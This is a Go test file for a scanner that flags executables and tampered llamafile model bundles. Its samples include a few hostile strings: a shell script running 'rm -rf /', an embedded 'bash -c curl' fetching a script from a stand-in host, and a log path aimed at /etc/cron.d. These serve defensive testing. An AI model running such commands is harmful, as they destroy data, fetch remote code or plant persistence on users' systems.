package executable_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"modelwall/scan"
	"modelwall/scan/all"
	"modelwall/scan/engine"
	"modelwall/scan/executable"
	"modelwall/scan/scantest"
)

var le = binary.LittleEndian

func pe() []byte {
	b := make([]byte, 400)
	copy(b, "MZ")
	b[0x3c] = 100
	copy(b[100:], "PE\x00\x00")
	return b
}

// elf is a header for the machine with so many segments.
func elf(machine, segments uint16) []byte {
	b := make([]byte, 400)
	copy(b, "\x7fELF\x02\x01\x01")
	le.PutUint16(b[16:], 2)
	le.PutUint16(b[18:], machine)
	if segments > 0 {
		le.PutUint64(b[32:], 64)
	}
	le.PutUint16(b[56:], segments)
	return b
}

const gguf = "GGUF\x03\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"

// withZip appends an archive of stored members, name, body, name, body...
func withZip(t testing.TB, program []byte, members ...string) []byte {
	t.Helper()
	b := bytes.NewBuffer(bytes.Clone(program))
	w := zip.NewWriter(b)
	w.SetOffset(int64(len(program)))
	for i := 0; i < len(members); i += 2 {
		f, err := w.CreateHeader(&zip.FileHeader{Name: members[i]})
		if err == nil {
			_, err = io.WriteString(f, members[i+1])
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func ape(text string) []byte {
	return append([]byte("MZqFpD='\n"+text+"\x00"), make([]byte, 5000)...)
}

func samples(t testing.TB) []scantest.Sample {
	const sus, low = scan.SeveritySuspicious, scan.Low
	random := strings.Repeat("\xcd\xcc\x00\x3d", 100)
	return []scantest.Sample{
		{Name: "elf", Data: elf(62, 3), Worst: sus},
		{Name: "elf, cut off", Data: []byte("\x7fELF\x02\x01\x01"), Worst: sus},
		{Name: "elf, nothing in it", Data: elf(62, 0), Worst: low},
		{Name: "elf for a GPU", Data: elf(190, 1), Worst: low},
		{Name: "pe", Data: pe(), Worst: sus},
		{Name: "MZ alone", Data: []byte("MZ" + random), Err: scan.ErrForeign},
		{Name: "mach-o", Data: []byte("\xcf\xfa\xed\xfe" + random), Worst: sus},
		{Name: "mach-o of two parts", Data: []byte("\xca\xfe\xba\xbe\x00\x00\x00\x02" + random), Worst: sus},
		{Name: "java class", Data: []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34" + random), Worst: sus},
		{Name: "dex", Data: []byte("dex\n035\x00" + random), Worst: sus},
		{Name: "lua", Data: []byte("\x1bLua\x52" + random), Worst: sus},
		{Name: "wasm", Data: []byte("\x00asm\x01\x00\x00\x00" + random), Worst: low},
		{Name: "script", Data: []byte("#! /bin/sh\nrm -rf /\n"), Worst: low},
		{Name: "ape", Data: ape("some program"), Worst: sus},
		{Name: "ape with an archive", Data: withZip(t, ape("llamafile"), "a.txt", "text"), Worst: sus},
		{Name: "ape with a model, not llamafile", Data: withZip(t, ape("other"), "m.gguf", gguf), Worst: sus},
		{Name: "llamafile", Data: withZip(t, ape("llamafile v0.9"), ".args", "-m\nm.gguf\n...\n", "m.gguf", gguf), Worst: low},
		{Name: "whisperfile", Data: withZip(t, ape("whisperfile"), "m.bin", "lmgg\x00\x00\x00\x00\x00"), Worst: low},
		{Name: "llamafile as elf", Data: withZip(t, append(elf(62, 3), "llamafile"...), "m.gguf", gguf), Worst: low},
		{Name: "llamafile with a command", Data: withZip(t, ape("llamafile\x00bash -c curl http://x.example/p.sh"), "m.gguf", gguf), Worst: sus},
		{Name: "llamafile with arguments", Data: withZip(t, ape("llamafile"), ".args", "--log-file\n/etc/cron.d/x\n", "m.gguf", gguf), Worst: sus},
		{Name: "real elf with a bare model", Data: append(elf(62, 3), "llamafile\x00"+gguf...), Worst: sus},
		{Name: "hollow elf with a bare model", Data: append(elf(62, 0), "llamafile\x00"+gguf...), Worst: low},
	}
}

func TestScanner(t *testing.T) { scantest.Run(t, executable.New(), samples(t)) }

func TestNotMatched(t *testing.T) {
	for _, head := range []string{"#![feature(test)]\n", "plain", "", "GGUF", "\x00asm", "\xca\xfe\xba\xbe\x00\x00\x00\x00"} {
		if executable.New().Match(scantest.Probe("x.exe", []byte(head))) {
			t.Errorf("%q is matched", head)
		}
	}
}

// counting counts the bytes read.
type counting struct {
	io.ReaderAt
	n int64
}

func (c *counting) ReadAt(p []byte, off int64) (int, error) {
	n, err := c.ReaderAt.ReadAt(p, off)
	c.n += int64(n)
	return n, err
}

// TestBytesRead: the model in a llamafile is not read.
func TestBytesRead(t *testing.T) {
	data := withZip(t, ape("llamafile"), "m.gguf", gguf+strings.Repeat("w", 32<<20))
	c := &counting{ReaderAt: bytes.NewReader(data)}
	r := &scantest.Record{}
	if err := executable.New().Scan(context.Background(), scan.File{Size: int64(len(data)), ReaderAt: c}, r); err != nil {
		t.Fatal(err)
	}
	if c.n > 256<<10 || r.Worst() != scan.Low {
		t.Errorf("%d bytes were read, findings %+v", c.n, r.Findings)
	}
}

const corpus = "../../../shared/corpus"

func TestCorpus(t *testing.T) {
	if _, err := os.Stat(corpus); err != nil {
		t.Skip("the sample corpus is not here")
	}
	eng := engine.New(all.Scanners(), engine.Limits{TempDir: t.TempDir()})
	n := 0
	for _, e := range scantest.Corpus(t, corpus) {
		b, err := os.ReadFile(e.Path)
		if err != nil {
			t.Fatal(err)
		}
		if !executable.New().Match(scantest.Probe(e.Path, b)) {
			continue
		}
		n++
		r, err := eng.Inspect(context.Background(), scantest.Bytes(filepath.Base(e.Path), b))
		if err != nil {
			t.Fatal(err)
		}
		if e.Label == "benign" && (r.Worst() >= scan.SeveritySuspicious || r.Verdict == scan.Undetermined) {
			t.Errorf("%s: %v %s %+v", e.Path, r.Verdict, r.Error, r.Findings)
		}
		t.Logf("%s %s: %v", e.Label, e.Path, r.Verdict)
	}
	if n == 0 {
		t.Error("no programs in the corpus")
	}
}

func FuzzScan(f *testing.F) {
	for _, s := range samples(f) {
		f.Add(s.Data)
	}
	f.Fuzz(func(t *testing.T, data []byte) { scantest.Fuzz(t, executable.New(), data) })
}
